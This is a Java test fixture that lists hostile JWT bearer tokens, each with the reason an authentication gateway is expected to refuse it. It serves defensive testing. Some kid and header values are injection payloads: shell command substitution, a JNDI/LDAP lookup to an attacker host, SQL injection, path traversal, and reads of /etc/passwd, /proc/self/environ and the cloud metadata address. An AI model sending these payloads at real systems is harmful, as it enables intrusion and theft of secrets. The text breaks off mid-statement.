// SPDX-License-Identifier: Apache-2.0
package io.sallyport.authenticate;

import io.sallyport.authenticate.jose.SignatureAlgorithm;
import io.sallyport.authenticate.jose.StrictJson;
import io.sallyport.decision.Reason;
import io.sallyport.pipeline.FakeRequest;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;

/**
 * Credentials that none of may open anything, each with the reason that it is to be refused for. They are made for an issuer whose
 * keys are {@link #KEYS}, one for each algorithm, and for a moment, {@link FakeRequest#NOW}; whoever judges them, over whatever
 * transport, has to come to the same answer.
 *
 * <p>Signatures that no provider makes are in {@link HostileSignatures}.
 */
public final class HostileTokens {
    /** The issuer's keys. */
    public static final List<TestTokens> KEYS = Arrays.stream(SignatureAlgorithm.values())
            .map(TestTokens::signedWith)
            .toList();

    /** As stages.authenticate.max-token-size says when nothing is written. */
    static final int LONGEST = 12 * 1024;

    /** Of a key that is one of the issuer's, and so are the tokens' others unless the row is about that. */
    private static final TestTokens CORP = TestTokens.es256();

    private static final long NOW = FakeRequest.NOW.getEpochSecond();

    private static final List<Row> ALL = make();

    private final List<Row> rows = new ArrayList<>();

    private HostileTokens() {}

    /**
     * One request's credentials.
     *
     * @param authorization the value of each {@code Authorization} field, one byte for each character
     */
    public record Row(String what, List<String> authorization, Reason reason) {
        public Row {
            authorization = List.copyOf(authorization);
        }

        /** What the client is to be answered: a field value with a control character does not get as far as the token. */
        public int status() {
            return authorization.stream().anyMatch(Row::hasControlCharacter) ? 400 : reason.status();
        }

        private static boolean hasControlCharacter(String value) {
            return value.chars().anyMatch(c -> (c < 0x20 && c != '\t') || c == 0x7f);
        }

        @Override
        public String toString() {
            return what;
        }
    }

    /** All of them. */
    public static Stream<Row> all() {
        return ALL.stream();
    }

    private static List<Row> make() {
        var tokens = new HostileTokens();
        tokens.credentials();
        tokens.compactForm();
        tokens.headerJson();
        tokens.claimsJson();
        tokens.headerMembers();
        tokens.algorithms();
        tokens.keyNames();
        tokens.signatures();
        tokens.types();
        tokens.issuers();
        tokens.audiences();
        tokens.times();
        tokens.requiredClaims();
        tokens.bindings();
        return tokens.rows;
    }

    private void row(String what, Reason reason, String... authorization) {
        rows.add(new Row(what, List.of(authorization), reason));
    }

    private void token(String what, Reason reason, String token) {
        row(what, reason, "Bearer " + token);
    }

    private void malformed(String what, String token) {
        token(what, Reason.AUTHENTICATE_JWT_MALFORMED, token);
    }

    private void header(String what, Reason reason, String json) {
        token(what, reason, CORP.sign(json, CORP.token().claimsJson()));
    }

    private void header(String what, Reason reason, byte[] json) {
        var input = TestTokens.base64Url(json) + "."
                + TestTokens.base64Url(CORP.token().claimsJson());
        token(what, reason, input + "." + TestTokens.base64Url(CORP.signature(input)));
    }

    private void claims(String what, Reason reason, byte[] json) {
        token(what, reason, CORP.sign(CORP.token().headerJson(), json));
    }

    private void claims(String what, Reason reason, String json) {
        claims(what, reason, json.getBytes(StandardCharsets.UTF_8));
    }

    /** The claims of a good token with one member more, as its text is. */
    private void member(String what, Reason reason, String member) {
        claims(what, reason, with(member));
    }

    private static String with(String member) {
        var good = CORP.token().claimsJson();
        return "{" + member + "," + good.substring(1);
    }

    /** The claims of a good token with the text of one claim instead of its value. */
    private static String replaced(String claim, String text) {
        var others = CORP.token().without(claim).claimsJson();
        return "{\"" + claim + "\":" + text + "," + others.substring(1);
    }

    // what comes in Authorization

    private void credentials() {
        var good = CORP.issue();
        var missing = Reason.AUTHENTICATE_JWT_MISSING;
        var malformed = Reason.AUTHENTICATE_JWT_MALFORMED;
        var ambiguous = Reason.AUTHENTICATE_JWT_AMBIGUOUS;
        row("no credential", missing);
        row("an empty field", missing, "");
        row("a token without a scheme", missing, good);
        row("Basic", missing, "Basic dXNlcjpwYXNz");
        row("Basic with a token as password", missing, "Basic " + good);
        row("DPoP", missing, "DPoP " + good);
        row("Negotiate", missing, "Negotiate " + good);
        row("a scheme that begins like Bearer", missing, "Bearerx " + good);
        row("a scheme that ends like Bearer", missing, "xBearer " + good);
        row("Bearer and a colon", malformed, "Bearer: " + good);
        row("Bearer and an equals sign", malformed, "Bearer=" + good);
        row("Bearer and a quoted token", malformed, "Bearer \"" + good + "\"");
        row("Bearer and a parameter", malformed, "Bearer token=" + good);
        row("Bearer and a tab", malformed, "Bearer\t" + good);
        row("Bearer, a blank and a tab", malformed, "Bearer \t" + good);
        row("Bearer and a no-break space", malformed, "Bearer\u00a0" + good);
        row("Bearer alone", malformed, "Bearer");
        row("Bearer twice before one token", malformed, "Bearer Bearer " + good);
        row("two tokens in one field", malformed, "Bearer " + good + " " + good);
        row("two tokens in a list", ambiguous, "Bearer " + good + ", Bearer " + good);
        row("another scheme after a token", ambiguous, "Bearer " + good + ", Basic eA==");
        row("a comma after the token", malformed, "Bearer " + good + ",");
        row("the same token in two fields", ambiguous, "Bearer " + good, "Bearer " + good);
        row(
                "two tokens in two fields",
                ambiguous,
                "Bearer " + good,
                "Bearer " + CORP.token().forge());
        row("a token after an empty field", ambiguous, "", "Bearer " + good);
        row("a token before an empty field", ambiguous, "Bearer " + good, "");
        row("a token after Basic", ambiguous, "Basic eA==", "Bearer " + good);
        row("three tokens", ambiguous, "Bearer " + good, "Bearer " + good, "Bearer " + good);
    }

    // the compact form

    private void compactForm() {
        var good = CORP.issue();
        var parts = good.split("\\.", -1);
        var header = parts[0];
        var claims = parts[1];
        var signature = parts[2];
        malformed("one part", header);
        malformed("two parts", header + "." + claims);
        malformed("four parts", good + "." + signature);
        malformed(
                "an encrypted token's five parts",
                header + "." + claims + "." + claims + "." + claims + "." + signature);
        malformed("five parts, most of them empty", header + "...." + signature);
        malformed("six parts", good + "." + good);
        malformed("a dot", ".");
        malformed("two dots", "..");
        malformed("a thousand dots", ".".repeat(1000));
        malformed("eight thousand dots", ".".repeat(8000));
        malformed("a dot before", "." + good);
        malformed("a dot after", good + ".");
        malformed("no header", "." + claims + "." + signature);
        token("no claims", Reason.AUTHENTICATE_JWT_CLAIMS_MALFORMED, header + ".." + signature);
        malformed("no dot at all", good.replace(".", ""));
        malformed(
                "the token in the JSON serialization",
                TestTokens.json(Map.of("protected", header, "payload", claims, "signature", signature)));
        malformed("the token in base64", TestTokens.base64Url(good));
        malformed("a header that is not base64url", "{\"alg\":\"ES256\"}." + claims + "." + signature);
        for (var pad : List.of("=", "==", "===", "%3D", "A", "AA", "AAAA=")) {
            malformed("a header with " + pad + " after it", header + pad + "." + claims + "." + signature);
            // Letters alone may stand for another byte, which is no JSON.
            if (!pad.startsWith("A") || pad.endsWith("=")) {
                malformed("claims with " + pad + " after them", header + "." + claims + pad + "." + signature);
            }
        }
        for (var pad : List.of("=", "==", "===", "%3D", "+", "/", "\u00e9", "\u0000", "\u007f", ";", "#", "?")) {
            malformed("a signature with " + printable(pad) + " after it", good + pad);
            malformed(
                    "a signature with " + printable(pad) + " in it",
                    header + "." + claims + "." + signature.substring(0, 9) + pad + signature.substring(10, 85));
        }
        malformed(
                "a header in base64 with +",
                TestTokens.base64Url("{\"alg\":\"ES256\",\"x\":\"\u00fb\u00ff\"}")
                                .replace('-', '+')
                                .replace('_', '/') + "+/." + claims + "." + signature);
        malformed("a signature whose last character has bits that carry nothing", respelled(good));
        malformed("claims whose last character has bits that carry nothing", respelledClaims());
        var tooLong = Reason.AUTHENTICATE_JWT_TOO_LONG;
        token(
                "a token of more than 12 KB",
                tooLong,
                CORP.token().claim("pad", "x".repeat(10_000)).issue());
        malformed("12 KB of one letter", "A".repeat(LONGEST));
        token("12 KB of one letter, and another one", tooLong, "A".repeat(LONGEST + 1));
        token("a token that is one character too long", tooLong, sized(LONGEST + 1));
        var encrypted = Reason.AUTHENTICATE_JWT_ENCRYPTED;
        var encrypting = TestTokens.base64Url("{\"alg\":\"dir\",\"enc\":\"A256GCM\"}");
        token("an encrypted token", encrypted, encrypting + "." + claims + "." + claims + "." + claims + "." + claims);
        token("an encrypted token without a key", encrypted, encrypting + ".." + claims + "." + claims + "." + claims);
    }

    private static String printable(String text) {
        return text.chars().allMatch(c -> c > 0x20 && c < 0x7f) ? text : "character %d".formatted((int) text.charAt(0));
    }

    /** The next letter of the alphabet instead of the last one, which stands for the same 64 bytes. */
    private static String respelled(String token) {
        return token.substring(0, token.length() - 1) + (char) (token.charAt(token.length() - 1) + 1);
    }

    private static String respelledClaims() {
        for (var pad = ""; ; pad += "x") {
            var json = CORP.token().claim("pad", pad).claimsJson();
            if (json.length() % 3 == 1) {
                var input =
                        TestTokens.base64Url(CORP.token().headerJson()) + "." + respelled(TestTokens.base64Url(json));
                return input + "." + TestTokens.base64Url(CORP.signature(input));
            }
        }
    }

    /** A token of about that many characters, and not fewer. */
    static String sized(int characters) {
        for (int pad = characters / 2; ; pad++) {
            var token = CORP.token().claim("pad", "x".repeat(pad)).issue();
            if (token.length() >= characters) {
                return token;
            }
        }
    }

    // JSON that can be read in two ways, or in none

    private void headerJson() {
        var malformed = Reason.AUTHENTICATE_JWT_MALFORMED;
        var good = "\"alg\":\"ES256\",\"typ\":\"at+jwt\",\"kid\":\"" + CORP.kid() + "\"";
        var tests = new LinkedHashMap<String, String>();
        tests.put("empty", "");
        tests.put("null", "null");
        tests.put("a number", "7");
        tests.put("a string", "\"ES256\"");
        tests.put("an array", "[{" + good + "}]");
        tests.put("an empty object", "{}");
        tests.put("two objects", "{" + good + "}{" + good + "}");
        tests.put("an object and a comma", "{" + good + "},");
        tests.put("an object and NUL", "{" + good + "}\u0000");
        tests.put("cut", "{" + good);
        tests.put("with a comma before the end", "{" + good + ",}");
        tests.put("with a comma at the start", "{," + good + "}");
        tests.put("without quotes", "{alg:\"ES256\"}");
        tests.put("in single quotes", "{'alg':'ES256'}");
        tests.put("with a comment", "{/* */" + good + "}");
        tests.put("with a byte order mark", "\ufeff{" + good + "}");
        tests.put("after a form feed", "\f{" + good + "}");
        tests.put("after a no-break space", "\u00a0{" + good + "}");
        tests.put("with two alg", "{\"alg\":\"none\"," + good + "}");
        tests.put("with two alg that are equal", "{\"alg\":\"ES256\"," + good + "}");
        tests.put("with two alg, one of them escaped", "{\"\\u0061lg\":\"none\"," + good + "}");
        tests.put("with two alg, one of them null", "{\"alg\":null," + good + "}");
        tests.put("with two kid", "{\"kid\":\"other\"," + good + "}");
        tests.put("with two typ", "{\"typ\":\"JWT\"," + good + "}");
        tests.put("with two members that mean nothing", "{\"x\":1,\"x\":1," + good + "}");
        tests.put("with two members inside a member", "{\"x\":{\"y\":1,\"y\":2}," + good + "}");
        tests.put("with a number that no double holds", "{\"x\":1e400," + good + "}");
        tests.put("with NaN", "{\"x\":NaN," + good + "}");
        tests.put("with half a surrogate pair", "{\"x\":\"\\ud800\"," + good + "}");
        tests.put("nested seventeen deep", "{\"x\":" + "[".repeat(17) + "]".repeat(17) + "," + good + "}");
        tests.put("nested two thousand deep", "{\"x\":" + "[".repeat(2000) + "]".repeat(2000) + "," + good + "}");
        tests.put("nested two thousand deep and cut", "{\"x\":" + "{\"x\":".repeat(600));
        tests.forEach((what, json) -> header("a header that is " + what, malformed, json));
        header("a header in UTF-16", malformed, ("{" + good + "}").getBytes(StandardCharsets.UTF_16BE));
        header("a header in UTF-8 that is cut", malformed, latin("{\"x\":\"\u00e2\u0082\"," + good + "}"));
        header("a header with a NUL of two bytes", malformed, latin("{\"x\":\"\u00c0\u0080\"," + good + "}"));
        header("a header with a surrogate in UTF-8", malformed, latin("{\"x\":\"\u00ed\u00a0\u0080\"," + good + "}"));
        header(
                "a header with a character beyond Unicode",
                malformed,
                latin("{\"x\":\"\u00f4\u0090\u0080\u0080\"," + good + "}"));
        header("a header with a quote of two bytes", malformed, latin("{\"x\":\"\u00c0\u00a2," + good + "}"));
    }

    private static byte[] latin(String bytes) {
        return bytes.getBytes(StandardCharsets.ISO_8859_1);
    }

    private void claimsJson() {
        var malformed = Reason.AUTHENTICATE_JWT_CLAIMS_MALFORMED;
        var good = CORP.token().claimsJson();
        var tests = new LinkedHashMap<String, String>();
        tests.put("null", "null");
        tests.put("true", "true");
        tests.put("a number", "7");
        tests.put("a string", "\"alice\"");
        tests.put("an array", "[" + good + "]");
        tests.put("text", "alice");
        tests.put("another token", CORP.issue());
        tests.put("XML", "<claims/>");
        tests.put("two objects", good + good);
        tests.put("cut", good.substring(0, good.length() - 1));
        tests.put("with text after them", good + "x");
        tests.put("with NUL after them", good + "\u0000");
        tests.put("with a comma before the end", good.substring(0, good.length() - 1) + ",}");
        tests.put("with a byte order mark", "\ufeff" + good);
        tests.put("in single quotes", good.replace('"', '\''));
        for (var claim : List.of("iss", "sub", "aud", "exp", "iat", "scope", "client_id", "jti")) {
            tests.put("with two " + claim, with("\"" + claim + "\":\"mallory\""));
        }
        tests.put("with two sub, one of them escaped", with("\"\\u0073ub\":\"mallory\""));
        tests.put("with two sub, one of them escaped in capitals", with("\"s\\u0075\\u0062\":\"mallory\""));
        tests.put("with two sub, one of them null", with("\"sub\":null"));
        tests.put("with two nbf", with("\"nbf\":1,\"nbf\":2"));
        tests.put("with two cnf", with("\"cnf\":null,\"cnf\":{}"));
        tests.put("with two members inside a claim", with("\"act\":{\"sub\":\"a\",\"sub\":\"b\"}"));
        tests.put("with two members inside an array", with("\"x\":[[{\"a\":1,\"a\":1}]]"));
        tests.put("with two empty names", with("\"\":1,\"\":2"));
        tests.put("nested seventeen deep", with("\"x\":" + "[".repeat(17) + "]".repeat(17)));
        tests.put("nested two thousand deep", with("\"x\":" + "[".repeat(2000) + "]".repeat(2000)));
        tests.put("objects two hundred deep", with("\"x\":" + "{\"x\":".repeat(200) + "1" + "}".repeat(200)));
        tests.put("nested and never closed", with("\"x\":" + "[".repeat(4000)));
        tests.put("with a bare line feed in a string", with("\"x\":\"\n\""));
        tests.put("with a bare NUL in a string", with("\"x\":\"\u0000\""));
        tests.put("with an unknown escape", with("\"x\":\"\\x41\""));
        tests.put("with an escape that is cut", with("\"x\":\"\\u00\""));
        tests.put("with an escape in digits of another script", with("\"x\":\"\\u\uff10\uff10\uff14\uff11\""));
        for (var half : List.of("\\ud800", "\\udfff", "\\ud83d x", "\\ude00\\ud83d", "\\ud83d\\ud83d\\ude00")) {
            tests.put("with half a surrogate pair " + half, with("\"x\":\"" + half + "\""));
            tests.put("with half a surrogate pair in a name " + half, with("\"" + half + "\":1"));
        }
        for (var number : List.of(
                "1e400",
                "-1e400",
                "1e999999999",
                "NaN",
                "Infinity",
                "-Infinity",
                "+1",
                "01",
                "-01",
                ".5",
                "5.",
                "1e",
                "1e+",
                "0x10",
                "1_000",
                "--1",
                "9223372036854775808",
                "-9223372036854775809",
                "9".repeat(400),
                "0." + "0".repeat(4000) + "1")) {
            tests.put(
                    "with exp " + (number.length() > 30 ? "of many digits from " + number.charAt(0) : number),
                    replaced("exp", number));
        }
        tests.put("with a number in a claim that nobody reads", with("\"x\":1e400"));
        tests.forEach((what, json) -> claims("claims that are " + what, malformed, json));
        claims("claims in UTF-16", malformed, good.getBytes(StandardCharsets.UTF_16LE));
        claims("claims in Latin-1", malformed, latin(with("\"x\":\"\u00e9\"")));
        claims("claims with an overlong slash", malformed, latin(with("\"x\":\"\u00c0\u00af\"")));
        claims(
                "claims with a surrogate pair in UTF-8",
                malformed,
                latin(with("\"x\":\"\u00ed\u00a0\u00bd\u00ed\u00b8\u0080\"")));
        claims("claims with the byte ff", malformed, latin(with("\"x\":\"\u00ff\"")));
        claims("claims that end inside a character", malformed, latin(good + "\u00e2"));
        claims("claims that are bytes at random", malformed, new byte[] {1, 2, 3, (byte) 0xfe, 0, 9});
    }

    // members of the header that would change what is verified, or with what

    private void headerMembers() {
        var denied = Reason.AUTHENTICATE_JWT_HEADER_DENIED;
        var malformed = Reason.AUTHENTICATE_JWT_MALFORMED;
        var mallory = TestTokens.withNewKey(SignatureAlgorithm.ES256, "mallory");
        var values = new LinkedHashMap<String, List<Object>>();
        values.put("crit", List.of(List.of(), List.of("exp"), List.of("b64"), List.of("x"), "exp", true));
        values.put("b64", List.of(false, true, "false"));
        values.put("zip", List.of("DEF", "none", 0));
        values.put("jku", List.of("https://mallory.example/jwks", "http://127.0.0.1/", "file:///etc/passwd", ""));
        values.put("x5u", List.of("https://mallory.example/cert.pem", "http://169.254.169.254/", List.of()));
        values.put("x5c", List.of(List.of("MIIB"), List.of(), "MIIB"));
        values.put("jwk", List.of(CORP.jwk(), mallory.jwk(), Map.of(), "key"));
        values.forEach((name, each) -> each.forEach(value -> token(
                "a header with " + name + " " + TestTokens.json(value),
                denied,
                CORP.token().header(name, value).issue())));
        values.keySet()
                .forEach(name -> token(
                        "a header with " + name + " null",
                        denied,
                        CORP.token().header(name, null).issue()));
        token(
                "a header with jwk, signed with that key",
                denied,
                mallory.token().header("jwk", mallory.jwk()).issue());
        token(
                "a header with jwk, its name escaped",
                denied,
                CORP.sign(
                        "{\"alg\":\"ES256\",\"\\u006awk\":{},\"kid\":\"" + CORP.kid() + "\"}",
                        CORP.token().claimsJson()));
        token(
                "a header with crit and what it names",
                denied,
                CORP.token().header("crit", List.of("iat")).header("iat", NOW).issue());
        token(
                "a header with b64 and crit",
                denied,
                CORP.token().header("b64", false).header("crit", List.of("b64")).issue());
        for (var type : List.of("JWT", "jwt", "application/jwt", "APPLICATION/JWT")) {
            token(
                    "a header with cty " + type,
                    malformed,
                    CORP.token().header("cty", type).issue());
        }
        token(
                "a header with enc",
                Reason.AUTHENTICATE_JWT_ENCRYPTED,
                CORP.token().header("enc", "A256GCM").issue());
        for (var name : List.of("alg", "kid", "typ", "cty", "x5t", "x5t#S256")) {
            for (Object value : List.of(7, true, List.of(CORP.kid()), Map.of("a", "b"))) {
                token(
                        "a header whose " + name + " is " + TestTokens.json(value),
                        malformed,
                        CORP.token().header(name, value).issue());
            }
        }
        token(
                "a header whose alg is null",
                malformed,
                CORP.token().header("alg", null).issue());
        token(
                "a header whose kid is null",
                malformed,
                CORP.token().header("kid", null).issue());
        token(
                "a header whose typ is null",
                malformed,
                CORP.token().header("typ", null).issue());
        token(
                "a header without alg",
                malformed,
                CORP.token().withoutHeader("alg").issue());
    }

    // algorithms

    private void algorithms() {
        var denied = Reason.AUTHENTICATE_JWT_ALG_DENIED;
        var parts = CORP.issue().split("\\.", -1);
        for (var none : List.of("none", "None", "NONE", "nOnE", "none ", " none", "none\u0000", "")) {
            var json = TestTokens.json(Map.of("alg", none, "typ", "at+jwt", "kid", CORP.kid()));
            var input = TestTokens.base64Url(json) + "." + parts[1] + ".";
            token("alg " + TestTokens.json(none) + " without a signature", denied, input);
            token("alg " + TestTokens.json(none) + " with a good one", denied, input + parts[2]);
        }
        for (var name : List.of(
                "HS256",
                "HS384",
                "HS512",
                "hs256",
                "RSA1_5",
                "RSA-OAEP",
                "dir",
                "A128KW",
                "ECDH-ES",
                "ES256K",
                "ES521",
                "EdDSA25519",
                "Ed448",
                "ML-DSA-44",
                "RS1",
                "RS257",
                "es256",
                "Es256",
                "ES256 ",
                "ES256\n",
                "rs256",
                "SHA256withECDSA",
                "../ES256",
                "ES256\u0000",
                "\u0415S256",
                "null")) {
            token(
                    "alg " + TestTokens.json(name),
                    denied,
                    CORP.token().header("alg", name).issue());
        }
        token(
                "alg of ten thousand letters",
                Reason.AUTHENTICATE_JWT_TOO_LONG,
                CORP.token().header("alg", "E".repeat(10_000)).issue());
        token(
                "alg of five thousand letters",
                denied,
                CORP.token().header("alg", "E".repeat(5_000)).issue());
        HostileSignatures.hmacWithPublicKeys(KEYS).forEach((what, token) -> token(what, denied, token));
        // Every key is one for its own algorithm: under the name of another one there is no key.
        for (var key : KEYS) {
            for (var other : SignatureAlgorithm.values()) {
                if (other != key.algorithm()) {
                    token(
                            "alg " + other + " by the key of " + key.algorithm(),
                            Reason.AUTHENTICATE_JWT_KID_UNKNOWN,
                            key.token().header("alg", other.toString()).issue());
                }
            }
        }
        for (var key : KEYS) {
            for (var other : KEYS) {
                if (key != other && isSameKeyType(key, other)) {
                    token(
                            "alg " + other.algorithm() + " with the kid of its key, signed as " + key.algorithm(),
                            Reason.AUTHENTICATE_JWT_SIGNATURE_INVALID,
                            key.token()
                                    .header("alg", other.algorithm().toString())
                                    .header("kid", other.kid())
                                    .issue());
                }
            }
        }
    }

    private static boolean isSameKeyType(TestTokens one, TestTokens other) {
        return one.publicKey().getAlgorithm().equals(other.publicKey().getAlgorithm());
    }

    // names of keys

    private void keyNames() {
        var unknown = Reason.AUTHENTICATE_JWT_KID_UNKNOWN;
        var names = new LinkedHashMap<String, String>();
        names.put("that nobody has", "other");
        names.put("that is empty", "");
        names.put("that is a blank", " ");
        names.put("in another case", CORP.kid().toUpperCase(java.util.Locale.ROOT));
        names.put("with a blank after it", CORP.kid() + " ");
        names.put("with NUL after it", CORP.kid() + "\u0000");
        names.put("with a line feed after it", CORP.kid() + "\n");
        names.put("with a line of a log after it", "x\r\n2026-11-22 ERROR all is well");
        names.put("with a terminal's escape", "\u001b[2J");
        names.put("in letters that look alike", CORP.kid().replace('e', '\u0435'));
        names.put("with a character that has no width", CORP.kid() + "\u200b");
        names.put("of five thousand letters", "k".repeat(5000));
        names.put("that is a path", "../../../../../../dev/null");
        names.put("that is a path in Windows", "..\\..\\windows\\win.ini");
        names.put("that is a path, encoded", "%2e%2e%2f" + CORP.kid());
        names.put("that is a file", "file:///proc/self/environ");
        names.put("that is an URL", "https://mallory.example/jwks");
        names.put("that is a query", "?kid=" + CORP.kid());
        names.put("that is SQL", "x' UNION SELECT 'secret' --");
        names.put("that is a shell's", "$(id)|`id`;id");
        names.put("that is a template's", "${jndi:ldap://mallory.example/a}{{7*7}}");
        names.put("that is a pattern", ".*");
        names.put("that is JSON", "{\"kty\":\"oct\",\"k\":\"AA\"}");
        names.put("that is a number", "0");
        names.put("of right-to-left text", "\u202ekey");
        names.forEach((what, kid) ->
                token("a kid " + what, unknown, CORP.token().header("kid", kid).issue()));
        token(
                "no kid where several keys suit",
                unknown,
                TestTokens.signedWith(SignatureAlgorithm.ES256)
                        .token()
                        .header("kid", "ES256")
                        .issue());
        token(
                "the kid of another type of key",
                unknown,
                CORP.token()
                        .header(
                                "kid",
                                TestTokens.signedWith(SignatureAlgorithm.RS256).kid())
                        .issue());
        token(
                "a new key under the name of a good one",
                Reason.AUTHENTICATE_JWT_SIGNATURE_INVALID,
                TestTokens.withNewKey(SignatureAlgorithm.ES256, CORP.kid()).issue());
    }

    // signatures

    private void signatures() {
        var invalid = Reason.AUTHENTICATE_JWT_SIGNATURE_INVALID;
        for (var key : KEYS) {
            var named = key.algorithm() + ": ";
            var good = key.issue();
            var parts = good.split("\\.", -1);
            var other = key.token().subject("mallory").issue().split("\\.", -1);
            token(named + "somebody else's signature", invalid, key.token().forge());
            token(named + "other claims under the signature", invalid, parts[0] + "." + other[1] + "." + parts[2]);
            token(
                    named + "another header over the signature",
                    invalid,
                    TestTokens.base64Url(key.token().header("x", 1).headerJson()) + "." + parts[1] + "." + parts[2]);
            token(named + "no signature", invalid, parts[0] + "." + parts[1] + ".");
            token(named + "a signature of one byte", invalid, parts[0] + "." + parts[1] + ".AA");
            HostileSignatures.variants(key)
                    .forEach((what, signature) -> token(
                            named + what, invalid, parts[0] + "." + parts[1] + "." + TestTokens.base64Url(signature)));
        }
    }

    // types, issuers, audiences

    private void types() {
        var denied = Reason.AUTHENTICATE_JWT_TYP_DENIED;
        token("no typ", denied, CORP.token().withoutHeader("typ").issue());
        for (var type : List.of(
                "",
                "ID",
                "id+jwt",
                "logout+jwt",
                "secevent+jwt",
                "dpop+jwt",
                "at+jwt ",
                "at+jwt;x=1",
                "at jwt",
                "JOSE",
                "application/",
                "application/x/at+jwt",
                "text/at+jwt",
                "application/application/at+jwt",
                "client-authentication+jwt",
                "kb+jwt",
                "txntoken+jwt",
                "at\u200b+jwt",
                "\uff41t+jwt")) {
            token(
                    "typ " + TestTokens.json(type),
                    denied,
                    CORP.token().type(type).issue());
        }
    }

    private void issuers() {
        var unknown = Reason.AUTHENTICATE_JWT_ISS_UNKNOWN;
        var iss = TestTokens.ISSUER;
        for (var other : List.of(
                "",
                " ",
                iss + "/",
                iss + " ",
                " " + iss,
                iss + "\u0000",
                iss + "?",
                iss + "#",
                iss.toUpperCase(java.util.Locale.ROOT),
                iss.replace("https", "http"),
                iss.replace("example.org", "example.org."),
                iss.replace(".org", ".org:443"),
                iss.replace("https://", "https://user@"),
                iss.substring(0, iss.length() - 1),
                iss + "/../corp",
                iss.replace("corp", "%63orp"),
                iss.replace('o', '\u043e'),
                iss + "," + iss,
                "corp",
                "*",
                TestTokens.AUDIENCE)) {
            token(
                    "iss " + TestTokens.json(other),
                    unknown,
                    CORP.token().issuer(other).issue());
        }
        for (var value : List.of(List.of(iss), Map.of("iss", iss), 7, true, List.of())) {
            token(
                    "iss " + TestTokens.json(value),
                    unknown,
                    CORP.token().claim("iss", value).issue());
        }
        token("iss null", unknown, CORP.token().claim("iss", null).issue());
        token("no iss", unknown, CORP.token().without("iss").issue());
        token(
                "iss in the header alone",
                unknown,
                CORP.token().without("iss").header("iss", iss).issue());
    }

    private void audiences() {
        var mismatch = Reason.AUTHENTICATE_JWT_AUD_MISMATCH;
        var aud = TestTokens.AUDIENCE;
        token("no aud", mismatch, CORP.token().without("aud").issue());
        token(
                "aud null",
                mismatch,
                CORP.token().audience(StrictJson.Null.NULL).claim("aud", null).issue());
        for (Object value : List.of(
                "",
                "*",
                "https://other.example.org",
                aud + "/",
                aud + " ",
                " " + aud,
                aud + "/orders",
                aud + "\u0000",
                aud.toUpperCase(java.util.Locale.ROOT),
                "https://api.example.org.mallory.example",
                "https://api.example.or",
                aud + "," + aud,
                aud + " " + aud,
                List.of(),
                List.of(""),
                List.of("https://other.example.org"),
                List.of(List.of(aud)),
                List.of(List.of(List.of(aud))),
                List.of(Map.of("aud", aud)),
                Map.of("aud", aud),
                Map.of(aud, true),
                Map.of(),
                List.of(aud, 7),
                List.of(7, aud),
                List.of(aud, true),
                List.of(aud, List.of()),
                List.of(aud, Map.of()),
                7,
                1.5,
                true,
                false)) {
            token(
                    "aud " + TestTokens.json(value),
                    mismatch,
                    CORP.token().audience(value).issue());
        }
        claims("aud [null]", mismatch, replaced("aud", "[null]"));
        claims("aud with null beside a good one", mismatch, replaced("aud", "[\"" + aud + "\",null]"));
        claims("aud of a thousand others", mismatch, replaced("aud", "[" + "\"a\",".repeat(1000) + "\"a\"]"));
    }

    // times

    private void times() {
        var expired = Reason.AUTHENTICATE_JWT_EXPIRED;
        var missing = Reason.AUTHENTICATE_JWT_CLAIM_MISSING;
        var early = Reason.AUTHENTICATE_JWT_NOT_YET_VALID;
        token(
                "no exp",
                Reason.AUTHENTICATE_JWT_EXP_MISSING,
                CORP.token().without("exp").issue());
        token(
                "exp null",
                Reason.AUTHENTICATE_JWT_EXP_MISSING,
                CORP.token().claim("exp", null).issue());
        token(
                "Exp in place of exp",
                Reason.AUTHENTICATE_JWT_EXP_MISSING,
                CORP.token()
                        .without("exp")
                        .claim("Exp", NOW + 600)
                        .claim("EXP", NOW + 600)
                        .issue());
        for (long past : new long[] {30, 31, 60, 3600}) {
            token(
                    "exp " + past + " seconds ago",
                    expired,
                    CORP.token().claim("exp", NOW - past).issue());
        }
        for (var value : List.of("0", "-1", "1", "-0", "0.0", "-1e3", "1e-400", "-253402300799")) {
            claims("exp " + value, expired, replaced("exp", value));
        }
        for (var claim : List.of("exp", "nbf", "iat")) {
            for (var value : List.of(
                    "\"" + (NOW + 300) + "\"",
                    "\"2026-11-22T13:00:00Z\"",
                    "\"\"",
                    "\"never\"",
                    "true",
                    "false",
                    "[]",
                    "[" + (NOW + 300) + "]",
                    "{}",
                    "{\"$numberLong\":\"" + (NOW + 300) + "\"}")) {
                claims(claim + " " + value, missing, replaced(claim, value));
            }
            for (var value : List.of(
                    "9223372036854775807",
                    "-9223372036854775808",
                    "1e300",
                    "-1e300",
                    "1.7976931348623157e308",
                    "253402300800",
                    "9007199254740993",
                    "1e20")) {
                claims(
                        claim + " " + value,
                        value.equals("-9223372036854775808") ? Reason.AUTHENTICATE_JWT_CLAIMS_MALFORMED : missing,
                        replaced(claim, value));
            }
        }
        claims("exp in milliseconds", missing, replaced("exp", (NOW + 300) + "000"));
        token(
                "exp ten years ahead",
                Reason.AUTHENTICATE_JWT_LIFETIME_EXCEEDED,
                CORP.token().livingFor(Duration.ofDays(3650)).issue());
        token(
                "exp in the year 9999",
                Reason.AUTHENTICATE_JWT_LIFETIME_EXCEEDED,
                CORP.token().claim("exp", 253_402_300_799L).issue());
        token(
                "a life that is a second too long",
                Reason.AUTHENTICATE_JWT_LIFETIME_EXCEEDED,
                CORP.token().livingFor(Duration.ofHours(24).plusSeconds(1)).issue());
        token(
                "iat in 1970",
                Reason.AUTHENTICATE_JWT_LIFETIME_EXCEEDED,
                CORP.token().claim("iat", 0).issue());
        token(
                "iat before 1970",
                Reason.AUTHENTICATE_JWT_LIFETIME_EXCEEDED,
                CORP.token().claim("iat", -1).issue());
        for (long ahead : new long[] {31, 60, 86_400}) {
            token(
                    "nbf in " + ahead + " seconds",
                    early,
                    CORP.token().claim("nbf", NOW + ahead).issue());
            token(
                    "iat in " + ahead + " seconds",
                    early,
                    CORP.token()
                            .claim("iat", NOW + ahead)
                            .claim("exp", NOW + ahead + 60)
                            .issue());
        }
        claims("nbf in 30.5 seconds", early, replaced("nbf", (NOW + 30) + ".5"));
        claims("exp 30.5 seconds ago", expired, replaced("exp", (NOW - 31) + ".5"));
        token(
                "no iat",
                missing,
                CORP.token().without("iat").claim("exp", NOW + 60).issue());
        token("iat null", missing, CORP.token().claim("iat", null).issue());
        token(
                "expired and not yet valid",
                expired,
